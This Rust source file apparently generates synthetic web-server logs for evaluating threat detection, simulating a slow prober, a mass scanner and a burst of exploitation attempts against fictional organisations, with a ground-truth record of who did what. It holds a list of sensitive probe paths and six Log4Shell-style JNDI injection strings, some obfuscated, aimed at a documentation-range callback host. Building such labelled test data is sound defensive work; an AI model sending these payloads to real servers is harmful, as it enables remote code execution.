//! Those who try the doors: one slowly, two with a new exploit, one in a hurry.

use std::net::IpAddr;

use relight_model::{OrgId, Timestamp};

use super::benign::{self, v4};
use super::random::Random;
use super::writer::{Request, SiteWriter};
use super::{Scenario, Truth};
use crate::civil::DAY;

/// Doors that the actors try. Most are in the catalogue, some are nowhere.
const DOORS: &[(&str, u16)] = &[
    ("/autodiscover/autodiscover.xml", 401),
    ("/owa/", 404),
    ("/vpn/index.html", 404),
    ("/.git/config", 404),
    ("/.env", 404),
    ("/solr/admin/cores", 404),
    ("/manager/html", 401),
    ("/wp-login.php", 404),
    ("/dana-na/auth/url_default/welcome.cgi", 404),
    ("/remote/login", 404),
    ("/ecp/default.aspx", 404),
    ("/intranet/", 403),
    ("/phpmyadmin/index.php", 404),
    ("/actuator/health", 404),
    ("/server-status", 403),
    ("/portail-interne/acces", 404),
    ("/jenkins/login", 404),
    ("/tmui/login.jsp", 404),
    ("/vsphere-client/", 404),
    ("/extranet/connexion", 404),
    ("/_cat/indices", 404),
    ("/host-manager/html", 404),
    ("/backup.zip", 404),
    ("/webmail-old/", 404),
];

/// Payloads as they stand in a log; `@` is the callback.
const PAYLOADS: [&str; 6] = [
    "${jndi:ldap://@/a}",
    "${${lower:j}ndi:${lower:l}dap://@/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://@/a}",
    "%24%7Bjndi:ldap://@/a%7D",
    "${jndi:${env:NOTHING:-ldap}://@/${env:NAME:-x}}",
    "&#36;&#123;jndi:dns://@/a&#125;",
];

const CALLBACK: &str = "198.51.100.210:1389";

const AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like \
                     Gecko) Chrome/95.0.4638.69 Safari/537.36";

/// Writes what the actors do into the logs of their targets, and says who they are.
pub(super) fn write(scenario: &Scenario, logs: &mut [SiteWriter]) -> Truth {
    let mut random = scenario.random(1);
    let slow_actor = v4(192, 0, 2, 1 + low_byte(&mut random));
    let attempt_sources = vec![v4(198, 51, 100, 1 + low_byte(&mut random)), v4(198, 51, 100, 211)];
    let mass_scanner = v4(198, 51, 100, 230);
    let slow_contacts = knock_slowly(scenario, &mut random, slow_actor, logs);
    let attempts = attempt(scenario, &mut random, &attempt_sources, logs);
    scan(scenario, &mut random, mass_scanner, logs);
    Truth {
        slow_actor,
        slow_contacts,
        attempt_sources,
        attempts,
        mass_scanner,
        crawlers: benign::CRAWLERS.map(|(source, _)| source).into(),
        monitors: vec![benign::MONITOR],
        feed_readers: (0..logs.len())
            .map(benign::feed_reader)
            .chain([benign::FEED_SERVICE])
            .collect(),
        editors: vec![benign::EDITOR],
        shared: vec![benign::SHARED],
    }
}

/// Below 200, so that the addresses of the actors stay apart.
fn low_byte(random: &mut Random) -> u8 {
    u8::try_from(random.below(199)).unwrap_or_default()
}

fn knock(at: Timestamp, source: IpAddr, door: (&'static str, u16)) -> Request<'static> {
    let (target, status) = door;
    Request { at, source, method: "GET", target, status, bytes: 512, referer: "-", agent: AGENT }
}

/// One to three doors a day. The organisations come in a fixed round, so that none is visited
/// twice before all others were.
fn knock_slowly(
    scenario: &Scenario,
    random: &mut Random,
    source: IpAddr,
    logs: &mut [SiteWriter],
) -> Vec<(Timestamp, OrgId, relight_model::SiteId)> {
    let mut round: Vec<OrgId> = scenario.organisations.iter().map(|one| one.id).collect();
    for last in (1..round.len()).rev() {
        round.swap(last, random.below(u32::try_from(last + 1).unwrap_or(1)) as usize);
    }
    let mut targets = round.into_iter().cycle();
    let mut contacts = Vec::new();
    for day in 0..scenario.days {
        for _ in 0..1 + random.below(3) {
            let Some(org) = targets.next() else { return contacts };
            let at =
                scenario.from + Timestamp::from(day) * DAY + Timestamp::from(random.below(86_400));
            let door = random.pick(DOORS).copied().unwrap_or(("/.env", 404));
            let mut sites: Vec<_> = logs.iter_mut().filter(|log| log.org == org).collect();
            let chosen = random.below(u32::try_from(sites.len()).unwrap_or(1)) as usize;
            if let Some(log) = sites.get_mut(chosen) {
                log.write(&knock(at, source, door));
                contacts.push((at, org, log.site));
            }
        }
    }
    contacts.sort_unstable();
    contacts
}

/// On the last day: each payload once, from one of the sources, at sites far apart.
fn attempt(
    scenario: &Scenario,
    random: &mut Random,
    sources: &[IpAddr],
    logs: &mut [SiteWriter],
) -> u32 {
    let day = scenario.from + Timestamp::from(scenario.days.saturating_sub(1)) * DAY;
    let mut written = 0;
    for (number, payload) in PAYLOADS.into_iter().enumerate() {
        let payload = payload.replace('@', CALLBACK);
        let place = number * logs.len() / PAYLOADS.len();
        let (Some(log), Some(source)) =
            (logs.get_mut(place), sources.get(number % sources.len().max(1)))
        else {
            continue;
        };
        let at = day + 36_000 + Timestamp::from(random.below(30_000));
        let in_query = format!("/?x={payload}");
        let request = knock(at, *source, ("/", 200));
        log.write(&if number % 2 == 0 {
            Request { agent: &payload, ..request }
        } else {
            Request { target: &in_query, ..request }
        });
        written += 1;
    }
    written
}

/// Every door of one organisation, one a second.
fn scan(scenario: &Scenario, random: &mut Random, source: IpAddr, logs: &mut [SiteWriter]) {
    let Some(org) = random.pick(&scenario.organisations).map(|organisation| organisation.id) else {
        return;
    };
    let day = Timestamp::from(random.below(scenario.days.max(1)));
    let mut at = scenario.from + day * DAY + Timestamp::from(random.below(80_000));
    for log in logs.iter_mut().filter(|log| log.org == org) {
        for door in DOORS {
            log.write(&Request { agent: "python-requests/2.26.0", ..knock(at, source, *door) });
            at += 1;
        }
    }
}
